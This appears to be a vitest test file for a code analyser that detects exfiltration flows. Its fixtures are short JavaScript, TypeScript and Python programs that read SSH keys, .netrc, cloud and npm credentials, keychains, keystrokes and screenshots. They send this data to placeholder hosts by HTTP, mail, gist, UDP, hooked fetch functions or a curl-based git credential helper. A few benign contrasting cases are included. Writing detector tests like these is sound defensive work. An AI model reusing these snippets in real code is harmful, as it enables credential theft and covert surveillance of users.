import { beforeAll, describe, expect, test } from 'vitest';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseFiles, flowsOf } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'typescript', 'python']));

type Case = readonly [name: string, files: Readonly<Record<string, string>>, flows: readonly string[]];

/** Between being read and being sent, a secret waits somewhere, or goes through somebody else's hands. */
const CASES: readonly Case[] = [
  [
    'an async generator over a folder',
    {
      'a.mjs': `import { readdir, readFile } from 'node:fs/promises';\nimport { join } from 'node:path';\nimport os from 'node:os';\nasync function* all(dir) {\n  for (const entry of await readdir(dir, { withFileTypes: true })) {\n    const path = join(dir, entry.name);\n    if (entry.isDirectory()) yield* all(path);\n    else yield path;\n  }\n}\nfor await (const path of all(join(os.homedir(), '.ssh'))) await fetch('https://c.example.invalid', { method: 'POST', body: await readFile(path) });`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a private field',
    {
      'a.ts': `import { readFileSync } from 'node:fs';\nclass Box {\n  #kept: Record<string, string> = {};\n  take(path: string) { this.#kept[path] = readFileSync(path, 'utf8'); return this; }\n  give() { return fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(this.#kept) }); }\n}\nnew Box().take('/root/.netrc').give();`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an event in another file',
    {
      'bus.js': `const { EventEmitter } = require('node:events');\nmodule.exports = new EventEmitter();`,
      'out.js': `const bus = require('./bus');\nbus.on('row', (name, value) => fetch('https://c.example.invalid', { method: 'POST', body: name + value }));`,
      'in.js': `const bus = require('./bus');\nrequire('./out');\nfor (const [name, value] of Object.entries(process.env)) bus.emit('row', name, value);`,
    },
    ['environment > http c.example.invalid'],
  ],
  [
    'an event before anybody listens',
    {
      'a.mjs': `import { EventEmitter } from 'events';\nimport fs from 'fs';\nclass Bus extends EventEmitter {}\nconst bus = new Bus();\nbus.emit('key', fs.readFileSync('/root/.ssh/id_rsa', 'utf8'));\nbus.once('key', (key) => fetch('https://c.example.invalid', { method: 'POST', body: key }));`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a worker',
    {
      'a.mjs': `import { Worker } from 'node:worker_threads';\nimport fs from 'node:fs';\nnew Worker('./w.mjs').postMessage(fs.readFileSync('/root/.npmrc', 'utf8'));`,
      'w.mjs': `import { parentPort } from 'node:worker_threads';\nparentPort.on('message', (body) => fetch('https://c.example.invalid', { method: 'POST', body }));`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a function that ran before there was something to send',
    {
      'a.py': `from pynput import keyboard\nimport requests\nkeys = []\ndef flush():\n    requests.post('https://c.example.invalid', data=''.join(keys))\ndef press(key):\n    keys.append(str(key))\nflush()\nkeyboard.Listener(on_press=press).start()`,
    },
    ['keystrokes > http c.example.invalid'],
  ],
  [
    'tasks that are awaited together',
    {
      'a.py': `import asyncio, httpx\nasync def read(path):\n    loop = asyncio.get_running_loop()\n    return await loop.run_in_executor(None, lambda: open(path).read())\nasync def main():\n    found = await asyncio.gather(*(read(p) for p in ['/root/.netrc']))\n    async with httpx.AsyncClient() as c:\n        await c.post('https://c.example.invalid', json=found)\nasyncio.run(main())`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a pool of threads',
    {
      'a.py': `from concurrent.futures import ThreadPoolExecutor\nimport requests\ndef read(path):\n    return open(path).read()\nwith ThreadPoolExecutor() as pool:\n    found = list(pool.map(read, ['/root/.ssh/id_rsa']))\nrequests.post('https://c.example.invalid', data=str(found))`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an archive in memory',
    {
      'a.py': `import io, tarfile, requests\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n    t.add('/root/.aws')\nrequests.put('https://c.example.invalid', data=b.getvalue())`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an archive in a file, packed after it was opened',
    {
      'a.mjs': `import archiver from 'archiver';\nimport { createWriteStream, readFileSync } from 'node:fs';\nconst pack = archiver('zip');\npack.pipe(createWriteStream('/tmp/p.zip'));\npack.directory('/root/.ssh', 's');\nawait fetch('https://c.example.invalid', { method: 'PUT', body: readFileSync('/tmp/p.zip') });`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an attachment of a mail',
    {
      'a.py': `import glob, smtplib\nfrom email.message import EmailMessage\ndef files():\n    for kind in ('pdf', 'docx'):\n        yield from glob.glob(f'/root/Documents/**/*.{kind}', recursive=True)\nm = EmailMessage()\nfor path in list(files())[:9]:\n    m.add_attachment(open(path, 'rb').read(), maintype='a', subtype='b')\nwith smtplib.SMTP('mail.example.invalid') as s:\n    s.send_message(m)`,
    },
    ['user-files > mail mail.example.invalid', 'user-files > mail mail.example.invalid'],
  ],
  [
    'an attachment by its path',
    {
      'a.js': `const mailer = require('nodemailer').createTransport({ host: 'mail.example.invalid' });\nmailer.sendMail({ to: 'a@example.invalid', attachments: [{ path: '/root/.ssh/id_rsa' }] });`,
    },
    ['credential-file > mail mail.example.invalid'],
  ],
  [
    'a picture of the screen in a file',
    {
      'a.py': `import pyautogui, requests\npyautogui.screenshot('/tmp/s.png')\nrequests.post('https://c.example.invalid', files={'f': open('/tmp/s.png', 'rb')})`,
    },
    ['screen > http c.example.invalid'],
  ],
  [
    'a store of passwords, item by item',
    {
      'a.py': `import secretstorage, requests\nrows = []\nfor c in secretstorage.get_all_collections(secretstorage.dbus_init()):\n    for item in c.get_all_items():\n        rows.append((item.get_label(), item.get_secret()))\nrequests.post('https://c.example.invalid', json=rows)`,
    },
    ['keychain > http c.example.invalid'],
  ],
  [
    'a pattern that fits secrets',
    {
      'a.mjs': `import { glob, readFile } from 'node:fs/promises';\nconst all = {};\nfor await (const path of glob('{**/.env,config/*.json}')) all[path] = await readFile(path, 'utf8');\nawait fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(all) });`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'an account at a service where anybody has one',
    {
      'a.mjs': `import { Octokit } from '@octokit/rest';\nimport fs from 'node:fs';\nawait new Octokit({ auth: 'x' }).gists.create({ files: { a: { content: fs.readFileSync('/root/.netrc', 'utf8') } } });`,
    },
    ['credential-file > git api.github.com'],
  ],
  [
    'an address from a settings file',
    {
      'a.py': `import json, requests\nc = json.load(open('settings.json'))\nrequests.post(c['report']['to'], data=open('/root/.netrc').read())`,
      'settings.json': '{"report": {"to": "https://c.example.invalid/r"}}',
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'a client of a library that nobody knows',
    {
      'a.mjs': `import { Thing } from 'thing';\nimport fs from 'node:fs';\nconst thing = new Thing('https://c.example.invalid');\nthing.submit({ body: fs.readFileSync('/root/.netrc', 'utf8') });`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'options that are set one by one',
    {
      'a.py': `import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://c.example.invalid')\nc.setopt(c.POSTFIELDS, open('/root/.netrc').read())\nc.perform()`,
    },
    ['credential-file > http c.example.invalid'],
  ],
  [
    'packets without a connection',
    {
      'a.py': `import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open('/root/.netrc', 'rb').read(), ('192.0.2.4', 53))`,
    },
    ['credential-file > socket 192.0.2.4'],
  ],
];

describe('a secret that waits before it is sent', () => {
  test.each(CASES)('%s', (_, files, flows) => {
    expect(flowsOf(analyseFiles(files).facts)).toEqual(flows);
  });
});

const CAUGHT: readonly Case[] = [
  [
    'a function of a library is replaced',
    {
      'a.js': `const https = require('https');\nconst real = https.request;\nhttps.request = function (options, done) {\n  fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(options.headers) });\n  return real.call(this, options, done);\n};`,
    },
    ['traffic > http ?', 'traffic > http c.example.invalid'],
  ],
  [
    'a method of all requests is replaced',
    {
      'a.py': `import requests\nreal = requests.Session.send\ndef send(self, request, **more):\n    requests.post('https://c.example.invalid', json=dict(request.headers))\n    return real(self, request, **more)\nrequests.Session.send = send`,
    },
    ['traffic > http c.example.invalid'],
  ],
  [
    'a proxy around a function',
    {
      'a.mjs': `const real = fetch;\nglobalThis.fetch = new Proxy(real, {\n  async apply(target, self, [input, init = {}]) {\n    real('https://c.example.invalid', { method: 'POST', body: String(init.headers) });\n    return Reflect.apply(target, self, [input, init]);\n  },\n});`,
    },
    ['traffic > http ?', 'traffic > http c.example.invalid'],
  ],
  [
    'a decorator around a function that takes a password',
    {
      'a.py': `import requests\ndef seen(f):\n    def inner(*a, **k):\n        requests.post('https://c.example.invalid', json={'a': a})\n        return f(*a, **k)\n    return inner\n@seen\ndef sign_in(user, password):\n    return True`,
    },
    ['typed-secret > http c.example.invalid'],
  ],
  [
    'a decorator of a method, with a descriptor',
    {
      'a.ts': `function seen(_of: object, name: string, it: PropertyDescriptor) {\n  const real = it.value;\n  it.value = function (...args: unknown[]) {\n    navigator.sendBeacon('https://c.example.invalid', JSON.stringify({ name, args }));\n    return real.apply(this, args);\n  };\n}\nclass Form {\n  @seen\n  check(email: string, password: string) { return email && password; }\n}`,
    },
    ['typed-secret > http c.example.invalid'],
  ],
  [
    'a program that git hands passwords to',
    {
      'a.js': `const fs = require('fs');\nfs.writeFileSync('/root/bin/git-credential-fast', '#!/bin/sh\\ncat | curl -s -d @- https://c.example.invalid');`,
    },
    ['keychain > http c.example.invalid'],
  ],
  [
    'the same under another name',
    {
      'a.py': `import subprocess\nopen('/root/h', 'w').write('#!/bin/sh\\ncat | curl -s -d @- https://c.example.invalid')\nsubprocess.run(['git', 'config', '--global', 'credential.helper', '/root/h'])`,
    },
    ['keychain > http c.example.invalid'],
  ],
  [
    'a browser with the profile of the user',
    {
      'a.py': `from playwright.sync_api import sync_playwright\nimport requests\nwith sync_playwright() as p:\n    c = p.chromium.launch_persistent_context('/root/.config/google-chrome')\n    requests.post('https://c.example.invalid', json=c.storage_state())`,
    },
    ['browser-profile > http c.example.invalid'],
  ],
  [
    'what is typed in a page',
    {
      'a.js': `let typed = '';\ndocument.addEventListener('keydown', (e) => { typed += e.key; });\nsetInterval(() => navigator.sendBeacon('https://c.example.invalid', typed), 1000);`,
    },
    ['keystrokes > http c.example.invalid'],
  ],
];

describe('a secret that is caught on its way', () => {
  test.each(CAUGHT)('%s', (_, files, flows) => {
    expect(flowsOf(analyseFiles(files).facts)).toEqual(flows);
  });
});

const HONEST: readonly Case[] = [
  [
    'a request that is tried again',
    {
      'a.mjs': `const real = globalThis.fetch;\nglobalThis.fetch = async (input, init) => (await real(input, init)) ?? real(input, init);`,
    },
    ['traffic > http ?', 'traffic > http ?'],
  ],
  [
    'a browser with a profile of its own',
    {
      'a.js': `const b = await require('puppeteer').launch({ userDataDir: './profile' });\nconst p = await b.newPage();\nfetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(await p.cookies()) });`,
    },
    [],
  ],
  [
    'the cookies of a site, for that site',
    {
      'a.py': `import browser_cookie3, requests\ns = requests.Session()\ns.cookies.update(browser_cookie3.firefox(domain_name='shop.example.test'))\ns.get('https://www.shop.example.test/orders')`,
    },
    ['browser-profile > http www.shop.example.test (login)'],
  ],
  [
    'a decorator that counts',
    {
      'a.py': `import requests\ndef counted(f):\n    def inner(*a, **k):\n        requests.post('https://c.example.invalid', json={'name': f.__name__})\n        return f(*a, **k)\n    return inner\n@counted\ndef sign_in(user, password):\n    return True`,
    },
    [],
  ],
];

describe('honest code that does the like', () => {
  test.each(HONEST)('%s', (_, files, flows) => {
    expect(flowsOf(analyseFiles(files).facts)).toEqual(flows);
  });
});
